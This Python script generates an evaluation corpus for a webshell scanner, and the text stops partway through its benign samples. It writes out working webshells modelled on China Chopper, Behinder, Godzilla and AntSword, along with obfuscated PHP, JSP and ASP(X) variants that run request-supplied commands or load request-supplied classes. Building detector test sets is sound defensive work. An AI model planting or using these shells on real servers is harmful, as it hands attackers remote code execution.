#!/usr/bin/env python3
"""Writes the SECOND held-out evaluation set for the webshell scanner, now tuning data:
samples/generic_eval2_* (shells the scanner catches), known_misses/eval2_* (shells it still misses:
documented gaps, reported by bench/webshell, not asserted) and benign/eval2_* (look-alikes).

History: written and committed (as heldout/, make_heldout.py) before the 2026-12-06 detector
changes were run on it; first measurement 37/70 = 52.9 % recall, 2/22 look-alikes flagged.
One generic tuning iteration on its misses followed (63/70 after, a tuned figure), so it
moved here; the current held-out set is heldout/ (make_heldout.py, third set).

Written on 2026-12-06 BEFORE the detector changes of that session were run on anything, and
committed on its own before it was measured. The author had seen the first held-out set
(make_eval.py, now tuning data under samples/generic_eval1_*), so this set deliberately uses
other shapes: different input sources, callback sinks, name-building tricks, the real family
layouts (as published in the families' source and in write-ups) with other key and parameter
names, and JSP/ASP(X) techniques the first set did not have. No downloaded malware: every file
is written here by us; keys and parameter names are made up.

Three parts:
  1. family-modelled shells (China Chopper 中国菜刀, Behinder 冰蝎, Godzilla 哥斯拉, AntSword 蚁剑)
     in PHP, JSP, ASP and ASPX, parameter/key names drawn from the seeded generator;
  2. PHP technique x input source x callee-name obfuscation combinations (seeded);
  3. JSP and ASP(X) technique shells.
Benign look-alikes: legitimate admin and framework code using the same features (eval of
constants, fixed commands, registered callbacks, reflection, class loading, Execute of local
files, Process.Start of fixed programs).

Do not tune on this set. If it is used to fix the detector, move it into samples/ and write a
new one (new generator or new shapes), as make_eval.py's set was.

    python3 make_eval2.py        # rewrites the files listed above (seed 20261206)
"""
import base64
import os
import random
import zlib

SEED = 20261206
HERE = os.path.dirname(os.path.abspath(__file__))
# Shells of this set the scanner still misses after the tuning iteration (see docs/webshell.md).
KNOWN_MISSES = set()  # all caught since set 4's tuning iteration (2026-12-06)


def b64(s):
    return base64.b64encode(s.encode()).decode()


def deflate_b64(s):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(c.compress(s.encode()) + c.flush()).decode()


def key16(rng):
    return "".join(rng.choice("0123456789abcdef") for _ in range(16))


def param(rng):
    return rng.choice(["pwd", "mima", "k1", "xx", "act", "sid", "ref", "lang", "tpl", "m"])


# --- 1. family-modelled shells ---------------------------------------------------------------

def families(rng):
    out = {}
    p = param(rng)
    # China Chopper: the one-liner, its no-letters variant, a superglobal alias, ASP/ASPX servers.
    out["chopper_php_alias.php"] = "<?php $q=$_POST; @eval($q['%s']); ?>\n" % p
    out["chopper_php_noalpha.php"] = (
        "<?php\n@$_++;\n$__=(\"#\"^\"|\").(\".\"^\"~\").(\"/\"^\"`\").(\"|\"^\"/\").(\"{\"^\"/\");\n"
        "${$__}[!$_](${$__}[$_]);\n")
    out["chopper_php_assert_comments.php"] = (
        "<?php @$_=\"s\".\"s\"./*-/*-*/\"e\"./*-/*-*/\"r\";@$_=/*-/*-*/\"a\"./*-/*-*/$_./*-/*-*/\"t\";"
        "@$_/*-/*-*/($/*-/*-*/{\"_P\"./*-/*-*/\"OS\"./*-/*-*/\"T\"}/*-/*-*/[/*-/*-*/'%s'/*-/*-*/]);?>\n"
        % p)
    out["chopper_php_image.jpg"] = ("\xff\xd8\xff\xe0JFIF" + "A" * 40 +
                                    "<?php @assert($_REQUEST['%s']); ?>" % p)
    out["chopper_asp_execute.asp"] = "<%%execute request(\"%s\")%%>\n" % param(rng)
    out["chopper_asp_script_tag.asp"] = (
        "<script language=\"vbscript\" runat=\"server\">\nIf Request(\"%s\")<>\"\" Then "
        "ExecuteGlobal Request(\"%s\")\n</script>\n" % ((param(rng),) * 2))
    out["chopper_aspx_jscript_var.aspx"] = (
        "<%%@ Page Language=\"Jscript\" validateRequest=\"false\" %%>\n<%%\nvar c = Request.Form(\"%s\");\n"
        "Response.Write(eval(c, \"unsafe\"));\n%%>\n" % param(rng))
    out["chopper_jsp_server.jsp"] = """<%@page import="java.io.*,java.util.*,java.net.*,java.sql.*,java.text.*"%>
<%!
String Pwd = "{p}";
String cs = "UTF-8";
String EC(String s) throws Exception {{ return new String(s.getBytes("ISO-8859-1"), cs); }}
void CC(String cmd, JspWriter out) throws Exception {{
  Process p = Runtime.getRuntime().exec(cmd);
  BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
  String l; while ((l = br.readLine()) != null) out.println(l);
}}
%>
<%
cs = request.getParameter("z0") != null ? request.getParameter("z0") + "" : cs;
String Z = EC(request.getParameter(Pwd) + "");
String z1 = EC(request.getParameter("z1") + "");
String z2 = EC(request.getParameter("z2") + "");
out.print("->|");
if (Z.equals("M")) {{ CC(z1.substring(2) + " " + z2, out); }}
out.print("|<-");
%>
""".format(p=param(rng))

    # Behinder: v3 PHP with another session key name, v4 PHP (default XOR transfer), JSP v3/v4,
    # ASPX with Session[0].
    k = key16(rng)
    out["behinder_php_v4_xor.php"] = """<?php
@error_reporting(0);
function Decrypt($data)
{
    $key="%s";
    $bs="base64_"."decode";
    $after=$bs($data."");
    for($i=0;$i<strlen($after);$i++) {
        $after[$i] = $after[$i]^$key[$i+1&15];
    }
    return $after;
}
$post=Decrypt(file_get_contents("php://input"));
@eval($post);
?>
""" % k
    out["behinder_php_v3_renamed.php"] = """<?php
@error_reporting(0);
session_start();
    $secret="%s";
    $_SESSION['%s']=$secret;
    session_write_close();
    $body=file_get_contents("php://input");
    $body=openssl_decrypt($body, "AES128", $secret);
    $parts=explode('|',$body);
    $args=$parts[1];
    class Q{public function __invoke($p) {eval($p."");}}
    @call_user_func(new Q(),$args);
?>
""" % (key16(rng), rng.choice(["t", "s", "sk"]))
    out["behinder_jsp_v4.jsp"] = """<%@page import="java.util.*,java.lang.reflect.*,javax.crypto.*,javax.crypto.spec.*"%>
<%!
private byte[] dec(byte[] data) throws Exception {{
  String k = "{k}";
  Cipher c = Cipher.getInstance("AES/ECB/PKCS5Padding");
  c.init(2, new SecretKeySpec(k.getBytes(), "AES"));
  return c.doFinal(data);
}}
%>
<%
byte[] body = new byte[request.getContentLength()];
new java.io.DataInputStream(request.getInputStream()).readFully(body);
byte[] bytes = dec(Base64.getDecoder().decode(body));
Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
m.setAccessible(true);
Class<?> cls = (Class<?>) m.invoke(Thread.currentThread().getContextClassLoader(), bytes, 0, bytes.length);
cls.newInstance().equals(pageContext);
%>
""".format(k=key16(rng))
    out["behinder_jsp_v3_spaced.jsp"] = (
        "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%>\n"
        "<%!class G extends ClassLoader{G(ClassLoader c){super(c);}\n"
        "public Class h(byte []b){return super.defineClass(b,0,b.length);}}%>\n"
        "<%if (request.getMethod().equals(\"POST\")){\n  String k=\"" + key16(rng) + "\";\n"
        "  session.setAttribute(\"u\",k);\n"
        "  Cipher c=Cipher.getInstance(\"AES\");\n  c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));\n"
        "  new G(this.getClass().getClassLoader()).h(c.doFinal(java.util.Base64.getDecoder()"
        ".decode(request.getReader().readLine()))).newInstance().equals(pageContext);\n}%>\n")
    out["behinder_aspx_session0.aspx"] = (
        "<%@ Page Language=\"C#\" %><%@Import Namespace=\"System.Reflection\"%>"
        "<%Session.Add(\"k\",\"" + key16(rng) + "\"); byte[] k = Encoding.Default.GetBytes(Session[0] + \"\"),"
        "c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography."
        "RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length))"
        ".CreateInstance(\"U\").Equals(this);%>\n")

    # Godzilla: PHP_XOR_BASE64 with other names, PHP_XOR_RAW, JSP AES_BASE64, ASPX with the
    # reflective Assembly.Load.
    gk, gp = key16(rng), param(rng)
    out["godzilla_php_xor_b64.php"] = """<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function enc($D,$K){
    for($i=0;$i<strlen($D);$i++) {
        $c = $K[$i+1&15];
        $D[$i] = $D[$i]^$c;
    }
    return $D;
}
$pass='%s';
$payloadName='sess_data';
$key='%s';
if (isset($_POST[$pass])){
    $data=enc(base64_decode($_POST[$pass]),$key);
    if (isset($_SESSION[$payloadName])){
        $payload=enc($_SESSION[$payloadName],$key);
        if (strpos($payload,"getBasicsInfo")===false){
            $payload=enc($payload,$key);
        }
        eval($payload);
        echo substr(md5($pass.$key),0,16);
        echo base64_encode(enc(@run($data),$key));
        echo substr(md5($pass.$key),16);
    }else{
        if (strpos($data,"getBasicsInfo")!==false){
            $_SESSION[$payloadName]=enc($data,$key);
        }
    }
}
""" % (gp, gk)
    out["godzilla_php_xor_raw.php"] = """<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function xr($D,$K){
    for($i=0;$i<strlen($D);$i++) {
        $D[$i] = $D[$i]^$K[$i+1&15];
    }
    return $D;
}
$payloadName='p';
$key='%s';
$data=file_get_contents("php://input");
if ($data!==false){
    $data=xr($data,$key);
    if (isset($_SESSION[$payloadName])){
        $payload=xr($_SESSION[$payloadName],$key);
        eval($payload);
        echo xr(@run($data),$key);
    }else{
        if (strpos($data,"getBasicsInfo")!==false){
            $_SESSION[$payloadName]=xr($data,$key);
        }
    }
}
""" % key16(rng)
    out["godzilla_jsp_aes_b64.jsp"] = """<%! String xc="{k}"; String pass="{p}"; String md5=md5(pass+xc);
class X extends ClassLoader{{public X(ClassLoader z){{super(z);}}public Class Q(byte[] cb){{return super.defineClass(cb, 0, cb.length);}} }}
public byte[] x(byte[] s,boolean m){{ try{{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s); }}catch (Exception e){{return null; }}}}
public static String md5(String s) {{String ret = null;try {{java.security.MessageDigest m;m = java.security.MessageDigest.getInstance("MD5");m.update(s.getBytes(), 0, s.length());ret = new java.math.BigInteger(1, m.digest()).toString(16).toUpperCase();}} catch (Exception e) {{}}return ret; }}
public static byte[] base64Decode(String bs) throws Exception {{return java.util.Base64.getDecoder().decode(bs);}}
%><%try{{byte[] data=base64Decode(request.getParameter(pass));data=x(data, false);if (session.getAttribute("cache")==null){{session.setAttribute("cache",new X(this.getClass().getClassLoader()).Q(data));}}else{{request.setAttribute("parameters",data);java.io.ByteArrayOutputStream arrOut=new java.io.ByteArrayOutputStream();Object f=((Class)session.getAttribute("cache")).newInstance();f.equals(arrOut);f.equals(pageContext);response.getWriter().write(md5.substring(0,16));f.toString();response.getWriter().write(java.util.Base64.getEncoder().encodeToString(x(arrOut.toByteArray(), true)));response.getWriter().write(md5.substring(16));}} }}catch (Exception e){{}}
%>
""".format(k=key16(rng), p=param(rng))
    out["godzilla_aspx_reflective_load.aspx"] = (
        "<%@ Page Language=\"C#\"%><%try { string key = \"" + key16(rng) + "\"; string pass = \"" +
        param(rng) + "\"; string md5 = System.BitConverter.ToString(new System.Security.Cryptography."
        "MD5CryptoServiceProvider().ComputeHash(System.Text.Encoding.Default.GetBytes(pass + key)))"
        ".Replace(\"-\", \"\"); byte[] data = System.Convert.FromBase64String(Context.Request[pass]); "
        "data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding"
        ".Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, "
        "data.Length); if (Context.Session[\"st\"] == null) { Context.Session[\"st\"] = (System.Reflection"
        ".Assembly)typeof(System.Reflection.Assembly).GetMethod(\"Load\", new System.Type[] { typeof(byte[]) })"
        ".Invoke(null, new object[] { data }); } else { System.IO.MemoryStream outStream = new System.IO"
        ".MemoryStream(); object o = ((System.Reflection.Assembly)Context.Session[\"st\"]).CreateInstance(\"LY\"); "
        "o.Equals(Context); o.Equals(outStream); o.Equals(data); o.ToString(); byte[] r = outStream.ToArray(); "
        "Context.Response.Write(md5.Substring(0, 16)); Context.Response.Write(System.Convert.ToBase64String("
        "new System.Security.Cryptography.RijndaelManaged().CreateEncryptor(System.Text.Encoding.Default"
        ".GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(r, 0, r.Length))); "
        "Context.Response.Write(md5.Substring(16)); } } catch (System.Exception) { }%>\n")

    # AntSword: the default PHP shell, the RSA-encoded shell, the create_function shell, the
    # class/destructor shell, ASP and the JSP class loader.
    ap = rng.choice(["ant", "as", "yj"])
    out["antsword_php_default.php"] = "<?php $%s=base64_decode(\"%s\");$%s($_POST['%s']);?>\n" % (
        ap, b64("assert"), ap, ap)
    out["antsword_php_rsa.php"] = """<?php
$cmd = @$_POST['%s'];
$pk = <<<EOF
-----BEGIN PUBLIC KEY-----
MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQC7b3Hd9k1bq5fG0sP0kqYQ8y1n
2jv7W2Y9wJ8m0aXcV4Yx3zQvK8lP1t0cZk5r8yH6nB2uA9eW3qD7fR1sT4gL0mJ
-----END PUBLIC KEY-----
EOF;
$cmds = explode("|", $cmd);
$pk = openssl_pkey_get_public($pk);
$cmd = '';
foreach ($cmds as $value) {
  if (openssl_public_decrypt(base64_decode($value), $de, $pk)) {
    $cmd .= $de;
  }
}
eval($cmd);
""" % ap
    out["antsword_php_create_function.php"] = (
        "<?php $%s=create_function(\"\", base64_decode('%s'));$%s();?>\n"
        % (ap, b64("@eval($_POST[\"%s\"]);" % ap), ap))
    n = rng.randrange(100, 999)
    out["antsword_php_destruct.php"] = """<?php
class Cache_%d {
    public $body;
    function __destruct() { @eval("" . $this->body); }
}
$c = new Cache_%d;
$c->body = $_REQUEST['%s'];
""" % (n, n, ap)
    out["antsword_asp.asp"] = "<%%\nDim cmd\ncmd = Request.Item(\"%s\")\neval cmd\n%%>\n" % ap
    out["antsword_jsp_loader.jsp"] = (
        "<%%!class U extends ClassLoader{ U(ClassLoader c){ super(c); }public Class g(byte []b){ "
        "return super.defineClass(b,0,b.length); }}%%><%% String cls = request.getParameter(\"%s\");"
        "if (cls != null) { new U(this.getClass().getClassLoader()).g(java.util.Base64.getDecoder()"
        ".decode(cls)).newInstance().equals(pageContext); }%%>\n" % ap)
    return out


# --- 2. PHP technique x source x name obfuscation --------------------------------------------

PHP_SOURCES = [
    "$GLOBALS['_POST']['{k}']", "filter_input(INPUT_POST, '{k}')", "getenv('HTTP_{K}')",
    "urldecode($_SERVER['QUERY_STRING'])", "stream_get_contents(fopen('php://input', 'r'))",
    "${{'_'.'GET'}}['{k}']", "array_values($_COOKIE)[0]", "end($_REQUEST)",
    "file_get_contents($_FILES['{k}']['tmp_name'])", "$_SESSION['{k}'] = $_POST['{k}']",
]

PHP_TECHNIQUES = [
    "array_walk", "array_filter", "uasort", "register_shutdown_function", "ob_start",
    "closure_from_callable", "arrow_fn", "reflection_invokeargs", "proc_open", "include_data_uri",
    "include_tmpfile", "preg_replace_e", "mb_ereg_replace_e", "eval_close_tag", "variadic_usort",
    "varvar", "list_destructure", "set_error_handler", "array_reduce", "dropper",
]


def php_name(name, rng):
    """New ways (not in make_eval.py) to build a function name at run time."""
    forms = [
        lambda: "pack('H*', '" + name.encode().hex() + "')",
        lambda: "sprintf('%s%s', '" + name[:2] + "', '" + name[2:] + "')",
        lambda: "implode('', array_reverse(str_split('" + name[::-1] + "')))",
        lambda: "strtr('" + "".join(chr(ord(c) + 1) if c != "z" else "a" for c in name) + "', '"
                + "bcdefghijklmnopqrstuvwxyza" + "', '" + "abcdefghijklmnopqrstuvwxyz" + "')",
        lambda: "urldecode('" + "".join("%%%02x" % ord(c) for c in name) + "')",
        lambda: "ucfirst(strtolower('" + name.upper() + "'))",
        lambda: "substr_replace('" + name[:-1] + "QQ', '" + name[-1] + "', -2)",
        lambda: "join(array_map('chr', array(" + ", ".join(str(ord(c)) for c in name) + ")))",
        lambda: "base64_decode(strrev('" + b64(name)[::-1] + "'))",
        lambda: "'" + name[:1] + "' . '" + name[1:3] + "' . trim(' " + name[3:] + " ')",
    ]
    return rng.choice(forms)()


def php_technique(rng, i):
    tech = PHP_TECHNIQUES[i % len(PHP_TECHNIQUES)]
    k = param(rng)
    src = rng.choice(PHP_SOURCES).format(k=k, K=k.upper())
    x = rng.choice(["$x", "$body", "$q", "$s1", "$tmp"])
    pre = "%s = %s;\n" % (x, src)
    if rng.random() < 0.3:
        pre = "%s = base64_decode(%s);\n" % (x, src)
    cmd = lambda: php_name(rng.choice(["system", "passthru", "shell_exec"]), rng)  # noqa: E731
    code = lambda: php_name("assert", rng)  # noqa: E731
    if tech == "array_walk":
        body = pre + "$arr = array(%s);\narray_walk($arr, %s);\n" % (x, cmd())
    elif tech == "array_filter":
        body = pre + "array_filter(array(%s), %s);\n" % (x, code())
    elif tech == "uasort":
        body = pre + "$a = array(%s, '');\nuasort($a, %s);\n" % (x, code())
    elif tech == "register_shutdown_function":
        body = pre + "register_shutdown_function(%s, %s);\n" % (cmd(), x)
    elif tech == "ob_start":
        body = pre + "ob_start(%s);\necho %s;\nob_end_flush();\n" % (cmd(), x)
    elif tech == "closure_from_callable":
        body = pre + "$c = Closure::fromCallable(%s);\necho $c(%s);\n" % (cmd(), x)
    elif tech == "arrow_fn":
        body = pre + "$run = fn($v) => %s($v);\necho $run(%s);\n" % (
            rng.choice(["system", "shell_exec", "passthru"]), x)
    elif tech == "reflection_invokeargs":
        body = pre + "$rf = new ReflectionFunction(%s);\necho $rf->invokeArgs(array(%s));\n" % (cmd(), x)
    elif tech == "proc_open":
        body = pre + ("$pr = proc_open(%s, array(1 => array('pipe', 'w')), $pipes);\n"
                      "echo stream_get_contents($pipes[1]);\nproc_close($pr);\n" % x)
    elif tech == "include_data_uri":
        body = pre + "include 'data://text/plain;base64,' . base64_encode(%s);\n" % x
    elif tech == "include_tmpfile":
        body = pre + ("$fh = tmpfile();\nfwrite($fh, %s);\n$meta = stream_get_meta_data($fh);\n"
                      "require $meta['uri'];\n" % x)
    elif tech == "preg_replace_e":
        body = pre + "echo preg_replace('/.*/e', %s, '');\n" % x
    elif tech == "mb_ereg_replace_e":
        body = pre + "mb_ereg_replace('.*', %s, '', 'e');\n" % x
    elif tech == "eval_close_tag":
        body = pre + "eval('?>' . %s);\n" % x
    elif tech == "variadic_usort":
        body = "usort(...$_%s);\n" % rng.choice(["GET", "POST", "REQUEST"])
    elif tech == "varvar":
        body = ("$n = '_' . 'PO' . 'ST';\n$data = $$n;\n$fn = %s;\n$fn($data['%s']);\n"
                % (cmd(), k))
    elif tech == "list_destructure":
        body = ("list($f, $arg) = explode('|', %s, 2);\necho $f($arg);\n" % src.split(" = ")[0])
    elif tech == "set_error_handler":
        body = pre + ("set_error_handler(function ($no, $msg) { %s($msg); });\n"
                      "trigger_error(%s);\n" % (rng.choice(["system", "passthru"]), x))
    elif tech == "array_reduce":
        body = pre + "array_reduce(array(%s), function ($c, $v) { return %s($v); });\n" % (
            x, rng.choice(["shell_exec", "system"]))
    else:  # dropper: request-chosen file name and content
        body = ("file_put_contents(%s, %s);\n" % (
            "$_POST['%s']" % k, "base64_decode($_POST['%s'])" % rng.choice(["c", "d", "body"])))
    noise = rng.choice(["", "/* theme helper */\n", "@ini_set('display_errors', 0);\n",
                        "if (!function_exists('wp_cache_get')) { function wp_cache_get() { return false; } }\n",
                        "header('Content-Type: text/plain');\n"])
    text = "<?php\n" + noise + body
    if rng.random() < 0.2:
        text = "GIF89a\n" + text
    return text


# --- 3. JSP and ASP(X) techniques ---------------------------------------------------------------

JSP = {
    "jsp_unicode_escape.jsp": '<%% \\u0052untime.getRuntime().exec(request.getParameter("%s")); %%>\n',
    "jsp_el_exec.jsp": '${Runtime.getRuntime().exec(param.%s)}\n',
    "jsp_jspx_scriptlet.jspx": (
        '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">\n<jsp:scriptlet>\n'
        'Process p = Runtime.getRuntime().exec(request.getParameter("%s"));\n'
        'out.print(new java.util.Scanner(p.getInputStream()).useDelimiter("\\\\A").next());\n'
        '</jsp:scriptlet>\n</jsp:root>\n'),
    "jsp_urlclassloader.jsp": (
        '<%% java.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{new '
        'java.net.URL(request.getParameter("%s"))}); l.loadClass("Payload").newInstance(); %%>\n'),
    "jsp_nashorn.jsp": (
        '<%% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName('
        '"nashorn"); e.put("req", request); e.eval(request.getHeader("%s")); %%>\n'),
    "jsp_reflect_processbuilder.jsp": (
        '<%% String c = request.getParameter("%s"); Class<?> k = Class.forName(new String('
        'java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlByb2Nlc3NCdWlsZGVy"))); Object pb = '
        'k.getConstructor(String[].class).newInstance((Object) new String[]{"sh", "-c", c}); '
        'Process pr = (Process) k.getMethod("start").invoke(pb); out.print(new String('
        'pr.getInputStream().readAllBytes())); %%>\n'),
    "jsp_param_map.jsp": (
        '<%% java.util.Map<String, String[]> m = request.getParameterMap(); '
        'String[] v = m.get("%s"); Process p = new ProcessBuilder(v).start(); '
        'out.print(new String(p.getInputStream().readAllBytes())); %%>\n'),
    "jsp_methodhandles_define.jsp": (
        '<%%@ page import="java.lang.invoke.*" %%><%% byte[] b = java.util.Base64.getDecoder()'
        '.decode(request.getParameter("%s")); MethodHandles.Lookup lk = MethodHandles.lookup(); '
        'Class<?> c = lk.defineClass(b); c.getDeclaredConstructor().newInstance(); %%>\n'),
}

ASP = {
    "asp_unescape_execute.asp": '<%%\nExecute(UnEscape(Request.Form("%s")))\n%%>\n',
    "asp_chr_name.asp": ('<%%\nDim s\ns = Request.QueryString("%s")\n'
                         'Eval(Chr(69) & "xecute(s)")\n%%>\n'),
    "asp_wscript_run.asp": (
        '<%%\nSet o = CreateObject("WS" & "cript.Shell")\nSet r = o.Exec("cm" & "d.exe /c " & '
        'Request.Form("%s"))\nResponse.Write r.StdOut.ReadAll\n%%>\n'),
    "asp_fso_writer.asp": (
        '<%%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\nSet f = fso.CreateTextFile('
        'Server.MapPath(Request("%s")), True)\nf.Write Request("body")\nf.Close\n%%>\n'),
    "aspx_process_object.aspx": (
        '<%%@ Page Language="C#" %%><%% var p = new System.Diagnostics.Process(); '
        'p.StartInfo.FileName = "power" + "shell.exe"; p.StartInfo.Arguments = Request.Form["%s"]; '
        'p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start(); '
        'Response.Write(p.StandardOutput.ReadToEnd()); %%>\n'),
    "aspx_jscript_evaluate.aspx": (
        '<%%@ Page Language="C#" %%><%% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate('
        'Request["%s"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %%>\n'),
    "aspx_appdomain_load.aspx": (
        '<%%@ Page Language="C#" %%><%% byte[] b = Convert.FromBase64String(Request.Form["%s"]); '
        'AppDomain.CurrentDomain.Load(b).CreateInstance("P").Equals(Context); %%>\n'),
    "aspx_codedom.aspx": (
        '<%%@ Page Language="C#" %%><%% var cp = new Microsoft.CSharp.CSharpCodeProvider(); '
        'var r = cp.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), '
        'Request.Form["%s"]); r.CompiledAssembly.CreateInstance("X").Equals(Context); %%>\n'),
    "ashx_handler.ashx": (
        '<%%@ WebHandler Language="C#" Class="H" %%>\nusing System.Web;\npublic class H : IHttpHandler {\n'
        '  public void ProcessRequest(HttpContext ctx) {\n    var si = new System.Diagnostics.ProcessStartInfo'
        '("cmd", "/c " + ctx.Request["%s"]);\n    si.RedirectStandardOutput = true; si.UseShellExecute = false;\n'
        '    ctx.Response.Write(System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd());\n  }\n'
        '  public bool IsReusable { get { return false; } }\n}\n'),
}


# --- benign look-alikes ---------------------------------------------------------------------

BENIGN = {
    "php_plugin_hooks.php": """<?php
// Hook registry of a CMS: callbacks are registered by plugins in code, fired by name.
class Hooks {
    private static $actions = array();
    public static function add($tag, $cb, $prio = 10) { self::$actions[$tag][$prio][] = $cb; }
    public static function run($tag, ...$args) {
        if (empty(self::$actions[$tag])) return;
        ksort(self::$actions[$tag]);
        foreach (self::$actions[$tag] as $cbs) foreach ($cbs as $cb) call_user_func_array($cb, $args);
    }
}
Hooks::add('init', array('Session', 'start'));
Hooks::run('init', $_SERVER['REQUEST_URI']);
""",
    "php_jsonrpc.php": """<?php
// JSON-RPC endpoint: the method must be on the service's whitelist.
$req = json_decode(file_get_contents('php://input'), true);
$allowed = array('listNews', 'getNews', 'search');
$svc = new NewsService();
if (!is_array($req) || !in_array($req['method'], $allowed, true)) {
    http_response_code(400);
    exit(json_encode(array('error' => 'unknown method')));
}
echo json_encode(array('result' => call_user_func_array(array($svc, $req['method']), (array) $req['params'])));
""",
    "php_ping_tool.php": """<?php
// Network diagnostics page of the admin panel (staff only): host is validated and escaped.
require __DIR__ . '/auth.php';
$host = isset($_POST['host']) ? trim($_POST['host']) : '';
if (!filter_var($host, FILTER_VALIDATE_IP)) { die('invalid address'); }
$out = shell_exec('ping -c 3 ' . escapeshellarg($host));
echo '<pre>' . htmlspecialchars($out) . '</pre>';
""",
    "php_compiled_template.php": """<?php
// Template engine: compiled templates are PHP files under the cache directory.
class View {
    public function render($tpl, array $data) {
        $compiled = $this->cacheDir . '/' . md5($tpl) . '.php';
        if (!is_file($compiled) || filemtime($compiled) < filemtime($this->dir . '/' . $tpl)) {
            file_put_contents($compiled, $this->compile(file_get_contents($this->dir . '/' . $tpl)));
        }
        extract($data, EXTR_SKIP);
        ob_start();
        include $compiled;
        return ob_get_clean();
    }
}
""",
    "php_config_eval.php": """<?php
// Legacy installer: evaluates the constants file it generated itself.
$defaults = "define('DB_HOST', 'localhost');\\ndefine('DB_NAME', 'portal');\\n";
if (!defined('DB_HOST')) { eval($defaults); }
echo DB_NAME;
""",
    "php_lang_include.php": """<?php
// Loads the language pack chosen by the visitor from a fixed list.
$langs = array('zh_CN', 'en_US');
$lang = in_array($_GET['lang'] ?? '', $langs, true) ? $_GET['lang'] : 'zh_CN';
require __DIR__ . '/lang/' . $lang . '.php';
""",
    "php_sort_column.php": """<?php
// Sorts a table by a column the visitor picks; the comparator is ours.
$col = in_array($_GET['sort'] ?? '', array('title', 'date'), true) ? $_GET['sort'] : 'date';
usort($rows, function ($a, $b) use ($col) { return strcmp($a[$col], $b[$col]); });
array_walk($rows, function (&$r) { $r['title'] = htmlspecialchars($r['title']); });
""",
    "php_reflection_router.php": """<?php
// Controller dispatch through reflection: only public methods ending in Action.
$controller = new ArticleController();
$action = preg_replace('/[^a-z]/', '', strtolower($_GET['a'] ?? 'index')) . 'Action';
$m = new ReflectionMethod($controller, method_exists($controller, $action) ? $action : 'indexAction');
echo $m->invokeArgs($controller, array($_GET));
""",
    "php_shutdown_log.php": """<?php
// Logs fatal errors on shutdown.
register_shutdown_function(function () {
    $e = error_get_last();
    if ($e && $e['type'] === E_ERROR) error_log('fatal: ' . $e['message']);
});
ob_start('ob_gzhandler');
echo 'ok';
""",
    "php_minified_asset.php": """<?php
// Serves a bundled, gzip-compressed stylesheet.
$css = 'H4sIAAAAAAAAA0vKT6lUSM7PS8tMBwB4WQ0lDAAAAA==';
header('Content-Type: text/css');
echo gzdecode(base64_decode($css));
""",
    "php_cron_runner.php": """<?php
// Runs the site's scheduled jobs (fixed list, no input).
$jobs = array('php ' . __DIR__ . '/jobs/sitemap.php', 'php ' . __DIR__ . '/jobs/cleanup.php');
foreach ($jobs as $j) { exec($j . ' > /dev/null 2>&1', $o, $rc); if ($rc) error_log("job failed: $j"); }
""",
    "php_upload_avatar.php": """<?php
// Avatar upload: name generated by us, type checked, stored outside the code path.
$f = $_FILES['avatar'] ?? null;
if ($f && $f['error'] === UPLOAD_ERR_OK && in_array(mime_content_type($f['tmp_name']), array('image/png', 'image/jpeg'), true)) {
    $dest = '/srv/uploads/' . bin2hex(random_bytes(16)) . '.img';
    move_uploaded_file($f['tmp_name'], $dest);
    file_put_contents('/srv/uploads/index.log', basename($dest) . "\\n", FILE_APPEND);
}
""",
    "php_calc_whitelist.php": """<?php
// Unit converter: a factor table, no eval.
$factors = array('km' => 1000, 'm' => 1, 'cm' => 0.01);
$from = $_GET['from'] ?? 'm';
$value = (float) ($_GET['v'] ?? 0);
printf('%.2f m', $value * ($factors[$from] ?? 1));
""",
    "php_closure_pipeline.php": """<?php
// A middleware pipeline of closures built in code.
$pipeline = array_reduce(array_reverse($middleware), function ($next, $mw) {
    return function ($req) use ($next, $mw) { return $mw($req, $next); };
}, function ($req) { return 'done'; });
echo $pipeline($_SERVER);
""",
    "jsp_disk_status.jsp": """<%@ page import="java.io.*" %>
<% String page_ = request.getParameter("page");
   Process p = Runtime.getRuntime().exec(new String[]{"df", "-h", "/srv"});
   BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
   String l; while ((l = r.readLine()) != null) out.println(l.replace("<", "&lt;")); %>
""",
    "jsp_formula.jsp": """<%@ page import="javax.script.*" %>
<% ScriptEngine js = new ScriptEngineManager().getEngineByName("js");
   String formula = application.getInitParameter("score.formula");
   out.print(js.eval(formula)); %>
""",
    "jsp_plugin_loader.jsp": """<%@ page import="java.net.*,java.io.File" %>
<% File dir = new File(application.getRealPath("/WEB-INF/plugins"));
   URLClassLoader l = new URLClassLoader(new URL[]{dir.toURI().toURL()}, getClass().getClassLoader());
   String name = request.getParameter("plugin");
   if (name != null && name.matches("[A-Za-z]+")) out.print(l.getResource(name + ".properties")); %>
""",
    "asp_dynamic_include.asp": """<%
' Classic ASP dynamic include of our own configuration file.
Function ReadFile(p)
  Dim fso, f
  Set fso = Server.CreateObject("Scripting.FileSystemObject")
  Set f = fso.OpenTextFile(p, 1)
  ReadFile = f.ReadAll
  f.Close
End Function
